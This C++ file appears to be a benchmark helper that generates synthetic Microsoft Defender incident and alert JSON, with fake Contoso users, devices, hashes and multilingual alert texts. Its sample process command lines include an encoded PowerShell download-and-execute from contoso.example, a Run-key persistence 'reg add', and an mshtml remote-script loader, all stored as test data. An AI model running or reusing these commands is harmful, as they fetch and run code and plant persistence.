// SPDX-License-Identifier: GPL-3.0-or-later
#include "tests/bench/incidentgenerator.h"

#include <array>
#include <span>
#include <string_view>

namespace utkik
{

namespace
{

using namespace std::string_view_literals;

/// SplitMix64: the standard library's distributions differ between its makers.
class Random
{
public:
    explicit Random(quint64 seed)
        : m_state(seed)
    {
    }

    quint64 next()
    {
        m_state += 0x9e3779b97f4a7c15;
        quint64 z = m_state;
        z = (z ^ (z >> 30)) * 0xbf58476d1ce4e5b9;
        z = (z ^ (z >> 27)) * 0x94d049bb133111eb;
        return z ^ (z >> 31);
    }
    quint64 below(quint64 end) { return next() % end; }
    bool oneIn(quint64 n) { return below(n) == 0; }
    std::string_view of(std::span<const std::string_view> words) { return words[below(words.size())]; }

private:
    quint64 m_state;
};

constexpr std::string_view severities[] = {"Informational", "Low", "Low", "Medium", "Medium", "High"};
constexpr std::string_view categories[] = {"InitialAccess",       "Execution",       "Persistence",
                                           "PrivilegeEscalation", "DefenseEvasion",  "CredentialAccess",
                                           "Discovery",           "LateralMovement", "CommandAndControl",
                                           "Exfiltration",        "Malware",         "SuspiciousActivity"};
constexpr std::string_view techniques[] = {"T1059.001", "T1566.001", "T1078", "T1078.004",
                                           "T1003.001", "T1021.002", "T1486"};
constexpr std::string_view services[] = {"MicrosoftDefenderForEndpoint", "MicrosoftDefenderForOffice365",
                                         "MicrosoftDefenderForIdentity", "MicrosoftDefenderForCloudApps",
                                         "AADIdentityProtection"};
constexpr std::string_view detections[] = {
    "WindowsDefenderAtp", "WindowsDefenderAv", "CustomerTI", "OfficeATP", "MCAS", "AAD"};
constexpr std::string_view verdicts[] = {"Suspicious", "Malicious", "Unknown", "NoThreatsFound"};
constexpr std::string_view remediations[] = {"None", "Remediated", "Prevented", "Blocked", "Active", "PendingApproval"};
constexpr std::string_view titles[] = {"Suspicious PowerShell command line"sv,
                                       "\u200bUnfamiliar sign-in properties"sv,
                                       "Credential dumping tool 'Mimikatz' was detected \\u0026 blocked"sv,
                                       "Lösenordsstöld via nätfiske"sv,
                                       "不審なログイン"sv,
                                       "نشاط مشبوه"sv,
                                       "An active 'Emotet' malware in a command line was prevented from executing"sv};
constexpr std::string_view sentences[] = {
    "A suspicious process was launched on this device by a user who does not usually do so. "sv,
    "Attackers often hide files associated with malicious tools to evade file system inspection and defenses.\\r\\n"sv,
    "The command \\\"net group \\\\\\\"Domain Admins\\\\\\\" /domain\\\" was seen\\tbefore and after.\\n"sv,
    "Read more: \\u003ca href=\\\"https://contoso.example/advice\\\"\\u003eadvice\\u003c/a\\u003e. "sv,
    "Kontot har loggat in från en adress som inte har setts förut, och läste många brev. "sv,
    "This detection might be triggered by penetration testing tools and by administrators' own scripts. -V1.0.0.2"sv};
constexpr std::string_view folders[] = {"C:\\\\Windows\\\\System32\\\\WindowsPowerShell\\\\v1.0"sv,
                                        "C:\\\\Users\\\\Public\\\\Documents"sv,
                                        "C:\\\\ProgramData\\\\Contoso\\\\Updates\\\\cache"sv,
                                        "C:\\\\Users\\\\Åsa\\\\AppData\\\\Local\\\\Temp"sv, "/usr/local/bin"sv};
constexpr std::string_view programs[] = {"powershell.exe", "cmd.exe",     "rundll32.exe",
                                         "winword.exe",    "svchost.exe", "kworker"};
constexpr std::string_view arguments[] = {
    " -NoProfile -ExecutionPolicy Bypass -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAcwA6AC8ALwBjAG8AbgB0AG8AcwBvAC4AZQB4AGEAbQBwAGwAZQAvAGEAJwApAA=="sv,
    " /c \\\"reg add HKCU\\\\Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run /v Updater /t REG_SZ /d C:\\\\Users\\\\Public\\\\u.exe /f\\\""sv,
    " javascript:\\\"\\\\..\\\\mshtml,RunHTMLApplication \\\";document.write();GetObject(\\\"script:https://contoso.example/x\\\")"sv,
    " /n \\\"C:\\\\Users\\\\Åsa\\\\Downloads\\\\Faktura 2026-11-20.docm\\\" /o \\\"\\\""sv};
constexpr std::string_view users[] = {"åsa.lindqvist", "karim.aziz",    "yuki.tanaka",
                                      "svc-backup",    "administrator", "SYSTEM"};

/// Writes compact JSON. Texts come escaped already.
class Writer
{
public:
    explicit Writer(QByteArray &out)
        : m_out(out)
    {
    }

    void raw(std::string_view text) { m_out.append(text.data(), static_cast<qsizetype>(text.size())); }
    void open(char bracket)
    {
        separate();
        m_out.append(bracket);
        m_first = true;
    }
    void close(char bracket)
    {
        m_out.append(bracket);
        m_first = false;
    }
    void key(std::string_view name)
    {
        separate();
        quoted(name);
        m_out.append(':');
        m_first = true;
    }
    void text(std::string_view name, std::string_view value)
    {
        key(name);
        quoted(value);
        m_first = false;
    }
    void number(std::string_view name, quint64 value)
    {
        key(name);
        m_out.append(QByteArray::number(value));
        m_first = false;
    }
    void null(std::string_view name)
    {
        key(name);
        raw("null");
        m_first = false;
    }
    void item(std::string_view value)
    {
        separate();
        quoted(value);
        m_first = false;
    }

private:
    void separate()
    {
        if (!m_first)
            m_out.append(',');
        m_first = true;
    }
    void quoted(std::string_view text)
    {
        m_out.append('"');
        raw(text);
        m_out.append('"');
    }

    QByteArray &m_out;
    bool m_first = true;
};

class Generator
{
public:
    Generator(QByteArray &out, IncidentShape shape, quint64 seed)
        : m_writer(out)
        , m_random(seed)
        , m_shape(shape)
    {
    }

    void incident(int alertCount);

private:
    [[nodiscard]] bool isLive() const { return m_shape == IncidentShape::Live; }
    void alert(int number);
    void alertTexts();
    void device();
    void entity(int number);
    /// A value of an entity: written if it applies, else null or left out as the shape has it.
    void optional(bool applies, std::string_view name, std::string_view value);
    void optionalNumber(bool applies, std::string_view name, quint64 value);

    std::string hex(int digits);
    std::string guid();
    std::string time();
    std::string decimal(quint64 below) { return std::to_string(m_random.below(below)); }

    Writer m_writer;
    Random m_random;
    IncidentShape m_shape;
};

std::string Generator::hex(int digits)
{
    std::string text;
    for (quint64 bits = 0; digits > 0; --digits, bits >>= 4) {
        if (bits == 0)
            bits = m_random.next() | (quint64{1} << 63);
        text += "0123456789abcdef"[bits & 15];
    }
    return text;
}

std::string Generator::guid()
{
    auto text = hex(8);
    for (const int digits : {4, 4, 4, 12})
        text.append("-").append(hex(digits));
    return text;
}

/// A moment of November 2026 with 0 to 7 fraction digits.
std::string Generator::time()
{
    std::string text = "2026-11-";
    const auto two = [&text](quint64 value, std::string_view end) {
        text.append(value < 10 ? "0" : "").append(std::to_string(value)).append(end);
    };
    two(1 + m_random.below(30), "T");
    two(m_random.below(24), ":");
    two(m_random.below(60), ":");
    two(m_random.below(60), "");
    const auto digits = m_random.below(8);
    if (digits > 0)
        text.append(".");
    for (quint64 i = 0; i < digits; ++i)
        text += static_cast<char>('1' + m_random.below(9));
    return text.append("Z");
}

void Generator::incident(int alertCount)
{
    auto &w = m_writer;
    w.open('{');
    w.text("@odata.context", "https://api.security.microsoft.com/api/$metadata#Incidents/$entity");
    w.number("incidentId", generatedIncidentId);
    if (isLive())
        w.text("incidentUri", "https://security.microsoft.com/incidents/924565?tid=" + guid());
    w.null("redirectIncidentId");
    w.text("incidentName", "Multi-stage incident involving Initial access \\u0026 Exfiltration on multiple endpoints");
    w.text("createdTime", time());
    w.text("lastUpdateTime", time());
    w.null("assignedTo");
    w.text("classification", "Unknown");
    w.text("determination", "NotAvailable");
    w.text("status", "Active");
    w.text("severity", "High");
    w.key("tags");
    w.open('[');
    w.item("Prio 1");
    w.close(']');
    w.key("comments");
    w.open('[');
    w.open('{');
    w.text("comment", "Isolating the three devices now. /Åsa");
    w.text("createdBy", "asa.lindqvist@contoso.example");
    w.text("createdTime", time());
    w.close('}');
    w.close(']');
    w.key("alerts");
    w.open('[');
    for (int i = 0; i < alertCount; ++i)
        alert(i);
    w.close(']');
    w.close('}');
}

void Generator::alertTexts()
{
    auto &w = m_writer;
    w.text("title", m_random.of(titles));
    std::string description;
    const auto count = isLive() ? 4 + m_random.below(4) : 1 + m_random.below(2);
    for (quint64 i = 0; i < count; ++i)
        description += m_random.of(sentences);
    w.text("description", description);
}

void Generator::alert(int number)
{
    auto &w = m_writer;
    auto id = std::string("da").append(std::to_string(637349914833441527 + number));
    id.append("_-").append(decimal(2'000'000'000));
    w.open('{');
    w.text("alertId", id);
    if (isLive())
        w.text("providerAlertId", id);
    w.number("incidentId", generatedIncidentId);
    w.text("serviceSource", m_random.of(services));
    w.text("creationTime", time());
    w.text("lastUpdatedTime", time());
    w.null("resolvedTime");
    w.text("firstActivity", time());
    w.text("lastActivity", time());
    alertTexts();
    w.text("category", m_random.of(categories));
    w.text("status", m_random.oneIn(3) ? "Resolved" : "New");
    w.text("severity", m_random.of(severities));
    w.null("investigationId");
    w.text("investigationState", "UnsupportedAlertType");
    w.null("classification");
    w.null("determination");
    w.text("detectionSource", m_random.of(detections));
    w.text("detectorId", guid());
    w.null("assignedTo");
    w.null("actorName");
    w.null("threatFamilyName");
    w.key("mitreTechniques");
    w.open('[');
    for (auto count = m_random.below(3); count > 0; --count)
        w.item(m_random.of(techniques));
    w.close(']');
    w.key("devices");
    w.open('[');
    if (!isLive() ? m_random.oneIn(2) : true)
        device();
    w.close(']');
    w.key("entities");
    w.open('[');
    for (int i = 0; i < generatedEntitiesPerAlert; ++i)
        entity(i);
    w.close(']');
    w.close('}');
}

void Generator::device()
{
    auto &w = m_writer;
    w.open('{');
    w.text("mdatpDeviceId", hex(40));
    w.null("aadDeviceId");
    w.text("deviceDnsName", "pc-" + decimal(500) + ".corp.contoso.example");
    w.text("osPlatform", "Windows11");
    w.text("version", "23H2");
    w.text("osProcessor", "x64");
    w.number("osBuild", 22631);
    w.text("healthStatus", "Active");
    w.text("riskScore", m_random.of(severities));
    w.text("rbacGroupName", "Stockholm \\u0026 Malmö");
    w.text("firstSeen", time());
    w.key("tags");
    w.open('[');
    w.close(']');
    w.text("defenderAvStatus", "Updated");
    w.text("onboardingStatus", "Onboarded");
    w.null("vmMetadata");
    w.key("loggedOnUsers");
    w.open('[');
    w.open('{');
    w.text("accountName", m_random.of(users));
    w.text("domainName", "CONTOSO");
    w.close('}');
    w.close(']');
    w.close('}');
}

void Generator::optional(bool applies, std::string_view name, std::string_view value)
{
    if (applies)
        m_writer.text(name, value);
    else if (!isLive())
        m_writer.null(name);
}

void Generator::optionalNumber(bool applies, std::string_view name, quint64 value)
{
    if (applies)
        m_writer.number(name, value);
    else if (!isLive())
        m_writer.null(name);
}

void Generator::entity(int number)
{
    constexpr std::array types{"User"sv,    "Ip"sv,      "Url"sv,         "File"sv,
                               "Process"sv, "Process"sv, "MailMessage"sv, "Registry"sv};
    // Live answers name several files and processes for each alert, which is where their size comes from
    const auto type = isLive() && number >= 2 ? types[3 + m_random.below(3)] : types[m_random.below(types.size())];
    const bool isFile = type == "File" || type == "Process";
    const bool isUser = type == "User" || type == "Process";
    const bool isMail = type == "MailMessage";
    const bool isRegistry = type == "Registry";
    const bool isProcess = type == "Process";
    const std::string user(m_random.of(users));
    const std::string folder(m_random.of(folders));
    const std::string program(m_random.of(programs));
    const auto command = "\\\"" + folder + "\\\\" + program + "\\\"" + std::string(m_random.of(arguments))
        + (isLive() ? std::string(m_random.of(arguments)) : std::string());
    m_writer.open('{');
    m_writer.text("entityType", type);
    if (isLive())
        m_writer.text("evidenceCreationTime", time());
    m_writer.text("verdict", m_random.of(verdicts));
    m_writer.text("remediationStatus", m_random.of(remediations));
    optional(isFile, "sha1", hex(40));
    optional(isFile, "sha256", hex(64));
    optional(isFile, "fileName", program);
    optional(isFile, "filePath", folder);
    optionalNumber(isProcess, "processId", m_random.below(30000));
    optional(isProcess, "processCommandLine", command);
    optional(isProcess, "processCreationTime", time());
    optionalNumber(isProcess, "parentProcessId", m_random.below(30000));
    optional(isProcess, "parentProcessCreationTime", time());
    optional(isProcess && isLive(), "parentProcessFileName", "explorer.exe");
    optional(isProcess && isLive(), "parentProcessFilePath", "C:\\\\Windows");
    optional(type == "Ip", "ipAddress", "203.0.113." + decimal(256));
    optional(type == "Url", "url", "https://contoso.example/a/" + hex(32) + "?q=" + hex(16));
    optional(isUser, "accountName", user);
    optional(isUser, "domainName", "CONTOSO");
    optional(isUser, "userSid", "S-1-5-21-321011808-3761883066-353627080-" + decimal(9000));
    optional(isUser, "aadUserId", guid());
    optional(isUser || isMail, "userPrincipalName", user + "@contoso.example");
    optional(false, "mailboxDisplayName", {});
    optional(false, "mailboxAddress", {});
    optional(false, "clusterBy", {});
    optional(isMail, "sender", "invoice@fabrikam.example");
    optional(isMail, "recipient", user + "@contoso.example");
    optional(isMail, "subject", "Faktura \\u2013 förfallen \\\"" + decimal(100000) + "\\\"");
    optional(isMail, "deliveryAction", "Delivered");
    optional(false, "securityGroupId", {});
    optional(false, "securityGroupName", {});
    optional(isRegistry, "registryHive", "HKEY_CURRENT_USER");
    optional(isRegistry, "registryKey", "SOFTWARE\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run");
    optional(isRegistry, "registryValueType", "String");
    optional(isRegistry, "registryValue", folder + "\\\\" + program);
    optional(isFile, "deviceId", hex(40));
    if (isLive())
        optional(isFile, "detectionStatus", "Detected");
    m_writer.close('}');
}

} // namespace

QByteArray generateIncident(int alertCount, IncidentShape shape, quint64 seed)
{
    constexpr qsizetype bytesPerAlert = 6700; // a little more than one takes
    QByteArray json;
    json.reserve(2048 + bytesPerAlert * alertCount);
    Generator(json, shape, seed).incident(alertCount);
    return json;
}

} // namespace utkik
